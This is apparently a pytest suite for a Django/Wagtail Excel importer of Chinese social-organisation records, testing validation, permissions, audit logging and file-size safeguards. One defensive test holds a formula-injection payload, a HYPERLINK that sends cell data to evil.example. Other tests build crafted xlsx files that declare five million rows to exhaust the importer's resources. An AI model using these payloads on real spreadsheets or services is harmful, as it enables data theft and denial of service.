import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django_fsm_log.models import StateLog
from openpyxl import Workbook, load_workbook

from accounts.roles import Role
from core.models import BackgroundJob
from core.workflow import CREATED
from orgs.imports import COLUMNS, CREATED_REASON, IMPORT_REASON, ImportFileError, import_organisations
from orgs.models import Organisation, OrganisationStatus, OrgType
from tests.factories import OrganisationFactory, applicant, make_uscc, staff

pytestmark = pytest.mark.django_db

HEADERS = [c.header for c in COLUMNS]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def row(n: int, **overrides) -> dict:
    """A valid 民办非企业单位 row in 凤凰街道 (鄂城区)."""
    values = {
        "名称": f"鄂州市凤凰街道第{n}号社会工作服务中心",
        "类型": "民办非企业单位（社会服务机构）",
        "统一社会信用代码": make_uscc(900 + n),
        "登记管理机关": "鄂州市民政局",
        "法定代表人/负责人": f"负责人{n}",
        "成立日期": "2019-03-15",
        "注册资金": "30000",
        "住所": f"湖北省鄂州市凤凰街道{n}号",
        "所属区域": "凤凰街道",
        "服务领域": "老年人服务、社区治理",
        "联系人": f"联系人{n}",
        "联系电话": f"1390000{n:04d}",
        "电子邮箱": f"org{n}@example.org",
        "开户银行": "湖北银行鄂州分行",
        "账户名称": f"鄂州市凤凰街道第{n}号社会工作服务中心",
        "银行账号": f"6221000188{n:06d}",
        "简介": "为社区老人提供助餐服务。",
    }
    values.update(overrides)
    return values


def xlsx(rows: list[dict], headers=HEADERS) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "社会组织"
    ws.append(headers)
    for r in rows:
        ws.append([r.get(h) for h in headers])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def run(rows, user, **kw):
    return import_organisations(io.BytesIO(xlsx(rows, **kw)), user=user)


@pytest.fixture
def manager(regions):
    return staff(Role.CALL_MANAGER, regions["echeng"])


def reasons(result) -> dict[int, str]:
    return {r.row: r.reason for r in result.rejected}


# ---- template --------------------------------------------------------------------------------


def test_template_download_has_chinese_headers_example_and_explanations(client, manager):
    client.force_login(manager)
    response = client.get("/admin/orgs/import/template/")
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.content))
    ws = wb["社会组织"]
    headers = [c.value for c in ws[1]]
    assert headers == [
        "名称", "类型", "统一社会信用代码", "备案编号", "挂靠单位", "登记管理机关", "业务主管单位",
        "法定代表人/负责人", "成立日期", "注册资金", "住所", "所属区域", "服务领域", "联系人", "联系电话",
        "电子邮箱", "开户银行", "账户名称", "银行账号", "简介",
    ]  # fmt: skip
    example = {h: c.value for h, c in zip(headers, ws[2], strict=True)}
    assert example["名称"].startswith("【示例】")
    assert example["所属区域"] == "凤凰街道"  # a region inside the downloader's scope
    assert "填写说明" in wb.sheetnames and "区域代码" in wb.sheetnames
    notes = " ".join(str(c.value) for r in wb["填写说明"].iter_rows() for c in r if c.value)
    assert "必填" in notes and "社会团体" in notes and "老年人服务" in notes
    codes = [r[0].value for r in wb["区域代码"].iter_rows(min_row=2)]
    assert "420704001" in codes and "420703001" not in codes  # only the downloader's scope


def test_template_round_trip(client, manager):
    client.force_login(manager)
    content = client.get("/admin/orgs/import/template/").content

    as_is = import_organisations(io.BytesIO(content), user=manager)
    assert as_is.skipped_examples == 1 and as_is.created == 0 and not as_is.rejected

    wb = load_workbook(io.BytesIO(content))
    ws = wb["社会组织"]
    ws["A2"] = ws["A2"].value.removeprefix("【示例】")  # the user fills in the example row
    buf = io.BytesIO()
    wb.save(buf)
    result = import_organisations(io.BytesIO(buf.getvalue()), user=manager)
    assert (result.created, result.rejected) == (1, [])
    org = Organisation.objects.get()
    assert org.name == "鄂州市凤凰街道老宝贝社会工作服务中心"
    assert org.status == OrganisationStatus.VERIFIED
    assert org.founded_on == datetime.date(2018, 5, 1) and org.registered_capital == Decimal("30000.00")
    assert org.service_areas.count() == 2


def test_import_permission_required(client, regions):
    # Wagtail turns PermissionDenied into a redirect to the dashboard with a message
    client.force_login(staff(Role.BASE_OPERATOR, regions["echeng"]))
    for url in ("/admin/orgs/import/", "/admin/orgs/import/template/"):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"] == "/admin/"
    client.force_login(applicant())
    assert client.get("/admin/orgs/import/").status_code == 302
    assert not client.get("/admin/orgs/import/template/").get("Content-Disposition")


# ---- rows ----------------------------------------------------------------------------------------


def test_creates_verified_registered_orgs_through_the_workflow(manager):
    result = run(
        [
            row(1),
            row(2, 类型="备案", 统一社会信用代码=None, 备案编号="鄂城备2024001", 挂靠单位="凤凰社区居委会"),
            row(3, 类型="筹备中", 统一社会信用代码=None, 所属区域="420704001001"),
        ],
        manager,
    )
    assert (result.created, result.verified, result.rejected) == (3, 2, [])
    registered = Organisation.objects.get(uscc=make_uscc(901))
    assert registered.status == OrganisationStatus.VERIFIED
    assert registered.verified_at and registered.submitted_at and registered.created_by == manager
    assert registered.bank_account == "6221000188000001" and registered.contact_phone == "13900000001"
    assert sorted(registered.service_areas.values_list("name", flat=True)) == ["社区治理", "老年人服务"]
    logs = StateLog.objects.filter(object_id=registered.pk).order_by("pk")
    assert [(log.source_state, log.state, log.by, log.description) for log in logs] == [
        ("draft", "draft", manager, CREATED_REASON),  # the history starts when the organisation does
        ("draft", "submitted", manager, IMPORT_REASON),
        ("submitted", "verified", manager, IMPORT_REASON),
    ]
    filed = Organisation.objects.get(filing_number="鄂城备2024001")
    assert (filed.org_type, filed.status) == (OrgType.COMMUNITY_FILED, OrganisationStatus.VERIFIED)
    preparing = Organisation.objects.get(org_type=OrgType.PREPARING)
    assert preparing.status == OrganisationStatus.DRAFT and preparing.region.code == "420704001001"
    assert list(StateLog.objects.filter(object_id=preparing.pk).values_list("transition", "state")) == [
        (CREATED, "draft")
    ]


def test_every_fault_is_reported_by_row_while_good_rows_import(manager):
    rows = [
        row(1),  # row 2: good
        row(2, 统一社会信用代码=make_uscc(902)[:-1] + ("0" if make_uscc(902)[-1] != "0" else "1")),  # 3
        row(3, 所属区域="火星街道"),  # 4
        row(4, 类型="股份有限公司"),  # 5
        row(5, 法定代表人="", **{"法定代表人/负责人": None}),  # 6
        row(6, 联系电话="1380000"),  # 7
        row(7, 银行账号="1234567"),  # 8
        row(8, 统一社会信用代码=make_uscc(901)),  # 9: same USCC as row 2
        row(9, 所属区域="华容镇"),  # 10: another district
        row(10, 成立日期="2019-02-30"),  # 11
        row(11),  # 12: good
        row(12, 成立日期="2099-01-01"),  # 13: full_clean
        row(13, 服务领域="老年人服务、星际旅行"),  # 14
    ]
    result = run(rows, manager)
    got = reasons(result)
    assert (result.created, len(result.rejected)) == (2, 11)
    assert set(got) == {3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 14}
    assert "第18位（校验码）不正确" in got[3]
    assert "所属区域“火星街道”不存在" in got[4]
    assert "类型“股份有限公司”无法识别" in got[5]
    assert "“法定代表人/负责人”为必填项" in got[6]
    assert "联系电话“1380000”不是有效的11位手机号码" in got[7]
    assert "银行账号长度应为8–30位数字，当前为7位" in got[8]
    assert "与本文件第2行重复" in got[9] and make_uscc(901) in got[9]
    assert "不在您的管辖范围" in got[10] and "鄂城区" in got[10]
    assert "成立日期“2019-02-30”无法识别" in got[11]
    assert "成立日期不能晚于今天" in got[13]
    assert "服务领域“星际旅行”不存在" in got[14]
    names = set(Organisation.objects.values_list("name", flat=True))
    assert names == {row(1)["名称"], row(11)["名称"]}
    # a rejected row writes nothing, not even half
    assert not Organisation.objects.filter(name__in=[r["名称"] for r in rows[1:10]]).exists()


def test_several_reasons_of_one_row_are_all_given(manager):
    result = run([row(1, 联系电话="12", 银行账号="abc", 类型="公司")], manager)
    reason = result.rejected[0].reason
    assert "类型“公司”" in reason and "联系电话" in reason and "银行账号只能包含数字" in reason


def test_excel_dates_numbers_and_money_formats(manager):
    rows = [
        row(1, 成立日期=datetime.datetime(2017, 6, 1), 注册资金=Decimal("12345.6"), 联系电话=13900000001),
        row(2, 成立日期="2017年6月2日", 注册资金="3万元"),
        row(3, 成立日期=42889, 注册资金="1,000.50"),  # Excel serial for 2017-06-03
        row(4, 成立日期="2017/6/4", 注册资金="12.345"),
        row(5, 银行账号=6221000188000005000.0),  # a long number Excel has already rounded
    ]
    result = run(rows, manager)
    got = reasons(result)
    assert result.created == 3
    orgs = {o.name: o for o in Organisation.objects.all()}
    o1, o2, o3 = (orgs[row(n)["名称"]] for n in (1, 2, 3))
    assert (o1.founded_on, o1.registered_capital, o1.contact_phone) == (
        datetime.date(2017, 6, 1),
        Decimal("12345.60"),
        "13900000001",
    )
    assert (o2.founded_on, o2.registered_capital) == (datetime.date(2017, 6, 2), Decimal("30000.00"))
    assert (o3.founded_on, o3.registered_capital) == (datetime.date(2017, 6, 3), Decimal("1000.50"))
    assert "最多保留两位小数" in got[5]
    assert "文本格式" in got[6]


def test_second_run_changes_nothing(manager):
    rows = [
        row(1),
        row(2),
        row(3, 类型="社区社会组织（备案）", 统一社会信用代码=None, 备案编号="B-3", 挂靠单位="凤凰社区"),
        row(4, 类型="筹备中", 统一社会信用代码=None),
    ]
    first = run(rows, manager)
    assert first.created == 4
    before = {o.pk: (o.updated_at, o.status) for o in Organisation.objects.all()}
    logs = StateLog.objects.count()
    second = run(rows, manager)
    assert (second.created, second.updated, second.unchanged, second.rejected) == (0, 0, 4, [])
    assert {o.pk: (o.updated_at, o.status) for o in Organisation.objects.all()} == before
    assert StateLog.objects.count() == logs


def test_changed_rows_update_and_blank_cells_keep_values(manager):
    run([row(1), row(2)], manager)
    org2 = Organisation.objects.get(uscc=make_uscc(902))
    stamp = org2.updated_at
    result = run(
        [row(1, 住所="湖北省鄂州市凤凰街道新址88号", 服务领域="妇女服务"), row(2, 银行账号=None, 简介=None)], manager
    )
    assert (result.updated, result.unchanged) == (1, 1)
    org1 = Organisation.objects.get(uscc=make_uscc(901))
    assert org1.address == "湖北省鄂州市凤凰街道新址88号"
    assert list(org1.service_areas.values_list("name", flat=True)) == ["妇女服务"]
    assert org1.status == OrganisationStatus.VERIFIED
    org2.refresh_from_db()
    assert org2.bank_account == "6221000188000002" and org2.introduction and org2.updated_at == stamp


def test_existing_org_keeps_its_status_and_out_of_scope_org_is_not_touched(manager, regions):
    draft = OrganisationFactory(uscc=make_uscc(901))  # an applicant's draft in 凤凰街道
    elsewhere = OrganisationFactory(uscc=make_uscc(902), region=regions["huarong_town"])
    result = run([row(1, 住所="新地址1号"), row(2)], manager)
    draft.refresh_from_db()
    assert draft.status == OrganisationStatus.DRAFT and draft.address == "新地址1号"
    assert result.updated == 1
    assert "管辖范围以外" in reasons(result)[3]
    elsewhere.refresh_from_db()
    assert elsewhere.region == regions["huarong_town"]


def test_filed_group_by_filing_number_and_preparing_by_name_and_region(manager):
    filed = dict(类型="备案", 统一社会信用代码=None, 备案编号="F-1", 挂靠单位="凤凰社区")
    prep = dict(类型="筹备", 统一社会信用代码=None)
    run([row(1, **filed), row(2, **prep)], manager)
    result = run([row(1, **filed, 联系人="新联系人"), row(2, **prep, 联系人="另一人"), row(3, **prep)], manager)
    assert (result.created, result.updated) == (1, 2)
    assert Organisation.objects.get(filing_number="F-1").contact_name == "新联系人"
    assert Organisation.objects.filter(org_type=OrgType.PREPARING).count() == 2
    dup = run([row(4, **filed, 名称="另一支队伍")], manager)  # F-1 matches the existing group: update
    assert dup.updated == 1


def test_file_level_errors(manager):
    with pytest.raises(ImportFileError, match="表头缺少必填列：类型"):
        run([row(1)], manager, headers=[h for h in HEADERS if h != "类型"])
    with pytest.raises(ImportFileError, match="无法读取"):
        import_organisations(io.BytesIO(b"not a zip at all"), user=manager)
    with pytest.raises(ImportFileError, match="没有批量导入社会组织的权限"):
        run([row(1)], staff(Role.BASE_OPERATOR, manager.region))


def test_rejected_rows_workbook_has_original_columns_and_reason(manager):
    result = run([row(1), row(2, 联系电话="123")], manager)
    wb = load_workbook(io.BytesIO(result.rejected_workbook()))
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header == [*HEADERS, "原行号", "错误原因"]
    values = [c.value for c in ws[2]]
    assert values[0] == row(2)["名称"] and values[-2] == 3 and "联系电话" in values[-1]


# ---- the admin screen --------------------------------------------------------------------------


def test_upload_runs_a_job_and_shows_the_outcome(client, manager, django_capture_on_commit_callbacks):
    client.force_login(manager)
    assert "开始导入" in client.get("/admin/orgs/import/").content.decode()
    upload = SimpleUploadedFile("名录.xlsx", xlsx([row(1), row(2, 所属区域="葛店镇")]), content_type=XLSX)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/admin/orgs/import/", {"file": upload})
    job = BackgroundJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/admin/jobs/{job.pk}/"
    assert job.status == BackgroundJob.Status.SUCCEEDED, job.message
    assert job.result_data["counts"]["created"] == 1 and job.result_data["counts"]["rejected"] == 1
    assert not job.input_file  # the upload is not kept
    html = client.get(response["Location"]).content.decode()
    assert "新增" in html and "第3行" in html and "不在您的管辖范围" in html
    download = client.get(f"/admin/jobs/{job.pk}/download/")
    wb = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert wb.active.cell(row=1, column=len(HEADERS) + 2).value == "错误原因"


def test_non_xlsx_disguised_as_xlsx_is_refused(client, manager):
    client.force_login(manager)
    for content in (b"%PDF-1.4 fake", "名称,类型\n某组织,基金会\n".encode(), b"PK\x03\x04not really a zip"):
        upload = SimpleUploadedFile("名录.xlsx", content, content_type=XLSX)
        response = client.post("/admin/orgs/import/", {"file": upload})
        html = response.content.decode()
        assert response.status_code == 200
        assert "实际内容不是允许的类型" in html
    assert not BackgroundJob.objects.exists() and not Organisation.objects.exists()


# ---- the command ---------------------------------------------------------------------------------


def test_command_imports_and_writes_rejected_rows(tmp_path, manager):
    path = tmp_path / "名录.xlsx"
    path.write_bytes(xlsx([row(1), row(2, 联系电话="123")]))
    out = io.StringIO()
    call_command("import_orgs", str(path), "--user", manager.username, stdout=out)
    text = out.getvalue()
    assert "新增 1 个" in text and "未通过校验 1 行" in text and "第3行：" in text
    rejected = tmp_path / "名录-rejected.xlsx"
    assert rejected.exists()
    assert load_workbook(rejected).active.cell(row=2, column=len(HEADERS) + 2).value.startswith("联系电话")
    assert Organisation.objects.get().status == OrganisationStatus.VERIFIED

    out = io.StringIO()
    call_command("import_orgs", str(path), stdout=out)  # as the system: same data, nothing changes
    assert "未变化 1 个" in out.getvalue()


def test_command_refuses_missing_or_non_xlsx_files(tmp_path, manager):
    with pytest.raises(CommandError, match="文件不存在"):
        call_command("import_orgs", str(tmp_path / "nope.xlsx"))
    fake = tmp_path / "fake.xlsx"
    fake.write_text("名称,类型\n", encoding="utf-8")
    with pytest.raises(CommandError, match="不是 Excel .xlsx 文件"):
        call_command("import_orgs", str(fake))
    real = tmp_path / "ok.xlsx"
    real.write_bytes(xlsx([row(1)]))
    with pytest.raises(CommandError, match="不存在"):
        call_command("import_orgs", str(real), "--user", "nobody")
    with pytest.raises(CommandError, match="没有批量导入"):
        call_command("import_orgs", str(real), "--user", applicant().username)


def test_menu_items_follow_permissions(client, manager, regions):
    # the sidebar is rendered as JSON props: look for the items' names
    client.force_login(manager)
    html = client.get("/admin/").content.decode()
    assert '"name": "orgs-import"' in html and '"url": "/admin/orgs/import/"' in html
    assert '"name": "orgs-export"' in html and '"name": "background-jobs"' in html
    client.force_login(staff(Role.BASE_OPERATOR, regions["echeng"]))
    html = client.get("/admin/").content.decode()
    assert '"name": "orgs-import"' not in html and '"name": "orgs-export"' not in html


def test_a_chunk_that_fails_at_the_database_is_redone_row_by_row(manager, monkeypatch):
    """Someone registers the same USCC between our read and our write: that row is
    rejected, the rest of the chunk is saved one by one, through run_transition."""
    from orgs.imports import Importer

    preload = Importer.preload

    def racing_preload(self, rows, mapping):
        preload(self, rows, mapping)
        OrganisationFactory(uscc=make_uscc(902), name="抢先登记的组织")

    monkeypatch.setattr(Importer, "preload", racing_preload)
    result = run([row(1), row(2), row(3)], manager)
    assert (result.created, result.verified) == (2, 2)
    assert "已被其他组织占用" in reasons(result)[3]
    assert Organisation.objects.get(uscc=make_uscc(902)).name == "抢先登记的组织"
    org = Organisation.objects.get(uscc=make_uscc(901))
    assert org.status == OrganisationStatus.VERIFIED and org.service_areas.count() == 2
    logs = StateLog.objects.filter(object_id=org.pk).order_by("pk")
    assert [(log.source_state, log.state, log.transition, log.by, log.description) for log in logs] == [
        ("draft", "draft", CREATED, manager, CREATED_REASON),
        ("draft", "submitted", "submit", manager, IMPORT_REASON),
        ("submitted", "verified", "verify", manager, IMPORT_REASON),
    ]


def test_bulk_audit_rows_match_what_run_transition_writes(manager):
    """The fast path writes the audit rows itself; they must be indistinguishable."""
    from core.selectors import history_for
    from core.workflow import log_created, run_transition

    run([row(1)], manager)
    bulk = Organisation.objects.get()
    by_hand = OrganisationFactory(uscc=make_uscc(950))
    log_created(by_hand, by=manager, reason=CREATED_REASON)
    run_transition(by_hand, "submit", by=manager, reason=IMPORT_REASON)
    run_transition(by_hand, "verify", by=manager, reason=IMPORT_REASON)

    def shape(org):
        return [
            (h.content_type_id, h.source_state, h.state, h.transition, h.by_id, h.description, h.get_state_display())
            for h in history_for(org)
        ]

    assert shape(bulk) == shape(by_hand) and len(shape(bulk)) == 3


def test_django_field_messages_are_chinese_too(manager):
    from django.utils import translation

    with translation.override("en"):
        result = run([row(1, 电子邮箱="not-an-email", 名称="长" * 130)], manager)
    reason = result.rejected[0].reason
    assert "电子邮箱：" in reason and "有效" in reason
    assert "名称：" in reason and "120" in reason


# ---- defect 4: the rejected-rows file writes text as text ---------------------------------------


def test_rejected_rows_file_writes_formula_like_values_as_text(manager):
    name = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    values = row(1, 名称=name, 联系电话="123", 简介="@SUM(1+1)")
    ws.append([values.get(h) for h in HEADERS])
    ws.cell(row=2, column=1).data_type = "s"  # the uploaded cell holds text, as a user's file would
    buf = io.BytesIO()
    wb.save(buf)
    result = import_organisations(io.BytesIO(buf.getvalue()), user=manager)
    assert [r.row for r in result.rejected] == [2]
    out = load_workbook(io.BytesIO(result.rejected_workbook())).active
    cells = {c.value: c for c in out[2]}
    for text in (name, "@SUM(1+1)"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix


# ---- defect 11: a file declaring millions of rows ------------------------------------------------


def _with_sheet_xml(content: bytes, edit) -> bytes:
    """Rewrite the first worksheet's XML of an .xlsx (to give it a shape openpyxl would not write)."""
    import zipfile

    src = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = edit(data.decode()).encode()
            dst.writestr(item, data)
    return out.getvalue()


def test_a_file_declaring_five_million_rows_stops_at_the_row_limit_quickly(manager):
    """49 KB declaring 5,000,000 rows held the import for 36 s and 600 MB: openpyxl fills
    the gap up to the last row with empty rows. Rows are counted as read, blank ones too."""
    import time

    def declare(xml):
        xml = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD5000000"/>', xml)
        far = '<row r="5000000"><c r="A5000000" t="inlineStr"><is><t>末行</t></is></c></row>'
        return xml.replace("</sheetData>", far + "</sheetData>")

    content = _with_sheet_xml(xlsx([row(1)]), declare)
    assert len(content) < 50_000
    started = time.monotonic()
    with pytest.raises(ImportFileError, match="空行也计入读取行数"):
        import_organisations(io.BytesIO(content), user=manager)
    assert time.monotonic() - started < 15
    assert not Organisation.objects.exists()


def test_a_49_kb_file_of_five_million_empty_rows_is_refused_at_once(manager):
    """The reported shape: 5,000,000 empty <row/> elements and no <dimension>, which made
    openpyxl parse the whole sheet before the first row (51 s, 470 MB here)."""
    import time

    def empty_rows(xml):
        xml = re.sub(r"<dimension [^>]*/>", "", xml)
        return xml.replace("</sheetData>", "<row/>" * 5_000_000 + "</sheetData>")

    content = _with_sheet_xml(xlsx([row(1)]), empty_rows)
    assert len(content) < 60_000
    started = time.monotonic()
    with pytest.raises(ImportFileError, match="空行也计入读取行数"):
        import_organisations(io.BytesIO(content), user=manager)
    assert time.monotonic() - started < 10
    assert not Organisation.objects.exists()


def test_blank_rows_written_in_the_file_count_too(manager, monkeypatch):
    from core import excel

    monkeypatch.setattr(excel, "MAX_BLANK_ROWS", 50)
    monkeypatch.setattr("orgs.imports.MAX_ROWS", 10)

    def blank_rows(xml):
        rows = "".join(f'<row r="{n}"/>' for n in range(3, 3 + 61))
        return xml.replace("</sheetData>", rows + "</sheetData>")

    content = _with_sheet_xml(xlsx([row(1)]), blank_rows)
    with pytest.raises(ImportFileError, match="请删除数据下方的空行"):
        import_organisations(io.BytesIO(content), user=manager)
    # under the limit, blank rows are simply skipped
    content = _with_sheet_xml(xlsx([row(1)]), lambda xml: xml.replace("</sheetData>", '<row r="9"/></sheetData>'))
    assert import_organisations(io.BytesIO(content), user=manager).created == 1


def test_reading_is_bounded_in_time(manager, monkeypatch):
    from core import excel

    monkeypatch.setattr("orgs.imports.READ_SECONDS", 0)
    monkeypatch.setattr(excel, "DEADLINE_CHECK_EVERY", 2)
    with pytest.raises(ImportFileError, match="读取文件超过 0 秒仍未完成，已停止导入，没有写入任何数据"):
        run([row(n) for n in range(1, 6)], manager)
    assert not Organisation.objects.exists()


def test_bulk_audit_goes_through_core_workflow(manager, monkeypatch):
    """The importer writes no StateLog by hand: its audit rows come from core.workflow.log_bulk."""
    import orgs.imports
    from core import workflow

    calls = []
    real = workflow.log_bulk

    def spy(*args, **kwargs):
        calls.append((args, kwargs))
        return real(*args, **kwargs)

    monkeypatch.setattr(orgs.imports, "log_bulk", spy)
    run([row(1), row(2)], manager)
    created, path = calls  # every new organisation's creation row, then the verified ones' path
    for args, kwargs in calls:
        assert args[0] is Organisation and len(args[1]) == 2 and kwargs["by"] == manager
    assert (created[1]["reason"], path[1]["reason"]) == (CREATED_REASON, IMPORT_REASON)
    assert "StateLog" not in Path(orgs.imports.__file__).read_text(encoding="utf-8")
